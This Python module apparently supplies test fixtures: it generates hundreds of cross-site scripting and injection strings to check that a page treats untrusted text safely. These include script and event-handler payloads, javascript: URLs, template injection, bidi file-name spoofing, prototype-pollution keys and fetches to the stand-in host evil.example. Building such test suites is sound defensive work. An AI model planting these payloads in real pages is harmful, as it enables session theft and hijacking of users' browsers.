"""Texts that would do harm in a page that trusts them: 200 and more, and the huge ones."""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.pwned=1"
"""What each of them tries; some try to reach another site, or to show a dialog."""
CALLS = (RUN, "alert(1)", "fetch('https://evil.example/x')", "document.title='pwned'")
EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerrawupdate",
)
TAGS = (
    *("script", "img", "svg", "body", "iframe", "object", "embed", "video", "audio", "details", "marquee", "math"),
    *("form", "input", "link", "meta", "base", "style", "template", "noscript", "textarea", "title", "xmp", "isindex"),
)
ENDS = ("</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</template>", "</noscript>", "\"'>", "`>")


def texts() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for call in CALLS:
        yield f"<script>{call}</script>"
        yield f"</script><script>{call}</script>"
        yield f"<img src=x onerror={call}>"
        yield f"<svg><script>{call}</script></svg>"
        yield f"[click me](javascript:{call})"
        yield f'![x](x" onerror="{call})'
        yield f'<a href="javascript:{call}">x</a>'
        yield f"data:text/html,<script>{call}</script>"
        yield "${" + call + "}"
        yield "{{" + f"constructor.constructor('{call}')()" + "}}"
        yield f"#{{{call}}}<%= {call} %>"
        yield f"`;{call};//"
        yield f"';{call};//"
        yield f"\\u003cscript\\u003e{call}\\u003c/script\\u003e"
        yield f"&lt;script&gt;{call}&lt;/script&gt;"
    for tag in TAGS:
        yield f"<{tag} src=https://evil.example/ onload={RUN}>"
        yield f"<{tag} {EVENTS[len(tag) % len(EVENTS)]}={RUN} autofocus tabindex=1>x</{tag}>"
    for event in EVENTS:
        yield f'<b {event}="{RUN}">x</b>'
        yield f'" {event}="{RUN}" x="'
    for end in ENDS:
        yield f"{end}<img src=https://evil.example/a.png onerror={RUN}>"
        yield f"x{end * 3}<script src=//evil.example/a.js></script>"
    for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029\u0085\ufeff":
        yield f"safe{control}gnp.exe <script>{RUN}</script>"
    for scheme in (
        "javascript",
        "JaVaScRiPt",
        "java\tscript",
        " javascript",
        "vbscript",
        "data",
        "blob",
        "file",
        "view-source",
    ):
        yield f"{scheme}:{RUN}"
        yield f"<{scheme}:{RUN}>"
        yield f"[x]({scheme}://%0a{RUN})"
    yield from (
        "@import url(https://evil.example/a.css);",
        "</style><style>*{background:url(https://evil.example/)}</style>",
        "expression(alert(1))",
        "x' style='position:fixed;inset:0;background:url(https://evil.example/b.png)",
        "<link rel=stylesheet href=https://evil.example/c.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)>",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "__proto__.polluted",
        "<!--<script>alert(1)//-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<svg><use href=https://evil.example/x.svg#a /></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "a" + "\u0301" * 400,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
        "x" * 3000,
        "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
        'event: frames\ndata: [{"seq":99}]\n\n',
        "id: 9\n\ndata: {}\r\n\r\n",
    )
